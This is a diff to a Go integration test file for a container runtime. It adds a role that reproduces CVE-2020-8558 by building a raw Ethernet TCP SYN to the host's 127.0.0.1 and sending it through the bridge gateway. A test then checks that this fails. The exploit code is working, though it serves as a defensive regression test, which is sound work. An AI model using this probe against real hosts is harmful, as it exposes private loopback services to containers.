@@ -7,9 +7,11 @@ package integration
 import (
 	"crypto/sha256"
 	"debug/elf"
+	"encoding/binary"
 	"errors"
 	"fmt"
 	"io"
+	"net"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -18,13 +20,16 @@ import (
 	"syscall"
 	"testing"
 	"time"
+
+	"golang.org/x/sys/unix"
 )
 
 // roles are programs the test binary also is: started inside a container
 // (bind-mounted there) with GLASSBOX_TEST_ROLE naming one, it plays that part
 // instead of running tests.
 var roles = map[string]func() int{
-	"attack-init-binary": attackInitBinary,
+	"attack-init-binary":   attackInitBinary,
+	"attack-host-loopback": attackHostLoopback,
 }
 
 // attackInitBinary is CVE-2019-5736 from inside a container. exec and debug
@@ -274,4 +279,147 @@ func mustStat(t *testing.T, path string) os.FileInfo {
 		t.Fatal(err)
 	}
 	return fi
+}
+
+// attackHostLoopback is CVE-2020-8558 from inside a container: a TCP SYN for
+// 127.0.0.1:$GLASSBOX_TEST_PORT, written as a raw Ethernet frame (CAP_NET_RAW,
+// which containers get by default) to the MAC address of the bridge, its
+// gateway. The host routes packets for 127.0.0.0/8 arriving on the bridge
+// when route_localnet is on there; a SYN-ACK back means a service that
+// listens only on the host's loopback answered the container.
+func attackHostLoopback() int {
+	port, _ := strconv.Atoi(os.Getenv("GLASSBOX_TEST_PORT"))
+	eth0, err := net.InterfaceByName("eth0")
+	if err != nil {
+		fmt.Println(err)
+		return 1
+	}
+	addrs, _ := eth0.Addrs()
+	src := addrs[0].(*net.IPNet).IP.To4()
+	gw, mac, err := gatewayMAC()
+	if err != nil {
+		fmt.Println("the gateway's MAC address:", err)
+		return 1
+	}
+	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, int(htons(unix.ETH_P_IP)))
+	if err != nil {
+		fmt.Println("socket(AF_PACKET):", err)
+		return 1
+	}
+	defer unix.Close(fd)
+	if err := unix.Bind(fd, &unix.SockaddrLinklayer{Protocol: htons(unix.ETH_P_IP), Ifindex: eth0.Index}); err != nil {
+		fmt.Println("bind:", err)
+		return 1
+	}
+	const sport = 40404
+	ip := []byte{0x45, 0, 0, 40, 0, 1, 0, 0, 64, unix.IPPROTO_TCP, 0, 0}
+	ip = append(append(ip, src...), 127, 0, 0, 1)
+	binary.BigEndian.PutUint16(ip[10:], checksum(ip))
+	tcp := make([]byte, 20)
+	binary.BigEndian.PutUint16(tcp[0:], sport)
+	binary.BigEndian.PutUint16(tcp[2:], uint16(port))
+	binary.BigEndian.PutUint32(tcp[4:], 1)
+	tcp[12], tcp[13] = 5<<4, 0x02 // header length 20, SYN
+	binary.BigEndian.PutUint16(tcp[14:], 65535)
+	pseudo := append(append(append([]byte{}, ip[12:20]...), 0, unix.IPPROTO_TCP, 0, 20), tcp...)
+	binary.BigEndian.PutUint16(tcp[16:], checksum(pseudo))
+	frame := append(append(append(append([]byte{}, mac...), eth0.HardwareAddr...), 0x08, 0x00), append(ip, tcp...)...)
+	if err := unix.Sendto(fd, frame, 0, &unix.SockaddrLinklayer{Ifindex: eth0.Index, Halen: 6, Addr: [8]byte(append(append([]byte{}, mac...), 0, 0))}); err != nil {
+		fmt.Println("sendto:", err)
+		return 1
+	}
+	fmt.Printf("sent a SYN for 127.0.0.1:%d to the gateway %s (%s)\n", port, gw, net.HardwareAddr(mac))
+	unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Usec: 100_000})
+	buf := make([]byte, 2048)
+	for deadline := time.Now().Add(2 * time.Second); time.Now().Before(deadline); {
+		n, _, err := unix.Recvfrom(fd, buf, 0)
+		if err != nil || n < 20+20 {
+			continue
+		}
+		p := buf[:n] // AF_PACKET SOCK_RAW: from the Ethernet header
+		if len(p) < 14+40 || p[14+9] != unix.IPPROTO_TCP {
+			continue
+		}
+		t := p[14+int(p[14]&0xf)*4:]
+		if binary.BigEndian.Uint16(t[0:]) == uint16(port) && binary.BigEndian.Uint16(t[2:]) == sport && t[13]&0x12 == 0x12 {
+			fmt.Printf("SYN-ACK: the host's 127.0.0.1:%d answered\n", port)
+			return 0
+		}
+	}
+	fmt.Printf("no answer from 127.0.0.1:%d\n", port)
+	return 0
+}
+
+// gatewayMAC finds the default gateway and learns its MAC address (a UDP
+// datagram to it makes the kernel resolve it).
+func gatewayMAC() (net.IP, []byte, error) {
+	routes, err := os.ReadFile("/proc/net/route")
+	if err != nil {
+		return nil, nil, err
+	}
+	var gw net.IP
+	for _, line := range strings.Split(string(routes), "\n") {
+		if f := strings.Fields(line); len(f) > 2 && f[1] == "00000000" {
+			v, _ := strconv.ParseUint(f[2], 16, 32)
+			gw = net.IPv4(byte(v), byte(v>>8), byte(v>>16), byte(v>>24)).To4()
+		}
+	}
+	if gw == nil {
+		return nil, nil, errors.New("no default route")
+	}
+	if c, err := net.Dial("udp4", gw.String()+":9"); err == nil {
+		c.Write([]byte{0})
+		c.Close()
+	}
+	for deadline := time.Now().Add(2 * time.Second); time.Now().Before(deadline); time.Sleep(20 * time.Millisecond) {
+		arp, _ := os.ReadFile("/proc/net/arp")
+		for _, line := range strings.Split(string(arp), "\n") {
+			if f := strings.Fields(line); len(f) > 3 && f[0] == gw.String() && f[3] != "00:00:00:00:00:00" {
+				mac, err := net.ParseMAC(f[3])
+				return gw, mac, err
+			}
+		}
+	}
+	return nil, nil, fmt.Errorf("%s did not resolve", gw)
+}
+
+func htons(v uint16) uint16 { return v<<8 | v>>8 }
+
+// checksum is the Internet checksum (RFC 1071).
+func checksum(b []byte) uint16 {
+	var sum uint32
+	for i := 0; i+1 < len(b); i += 2 {
+		sum += uint32(binary.BigEndian.Uint16(b[i:]))
+	}
+	if len(b)%2 == 1 {
+		sum += uint32(b[len(b)-1]) << 8
+	}
+	for sum>>16 != 0 {
+		sum = sum&0xffff + sum>>16
+	}
+	return ^uint16(sum)
+}
+
+// A container cannot reach a service that listens only on the host's
+// loopback, also while another container publishes a port (which turns on
+// route_localnet on the bridge); the host still reaches published ports on
+// 127.0.0.1.
+func TestContainerCannotReachHostLoopback(t *testing.T) {
+	e := newEnv(t)
+	private, err := net.Listen("tcp4", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer private.Close()
+	port := freePort(t)
+	stop := server(t, e, []string{"-p", fmt.Sprintf("127.0.0.1:%d:80", port)}, webSetup)
+	defer stop()
+	if body := httpGet(t, fmt.Sprintf("http://127.0.0.1:%d/", port)); body != "hello-from-web\n" {
+		t.Errorf("127.0.0.1:%d answered %q", port, body)
+	}
+	out := e.runOK([]string{"-v", attacker(t) + ":/attacker:ro", "-e", "GLASSBOX_TEST_ROLE=attack-host-loopback",
+		"-e", fmt.Sprintf("GLASSBOX_TEST_PORT=%d", private.Addr().(*net.TCPAddr).Port)}, "/attacker")
+	if !strings.Contains(out, "sent a SYN") || strings.Contains(out, "SYN-ACK") {
+		t.Errorf("a container's SYN to the host's 127.0.0.1:\n%s", out)
+	}
 }
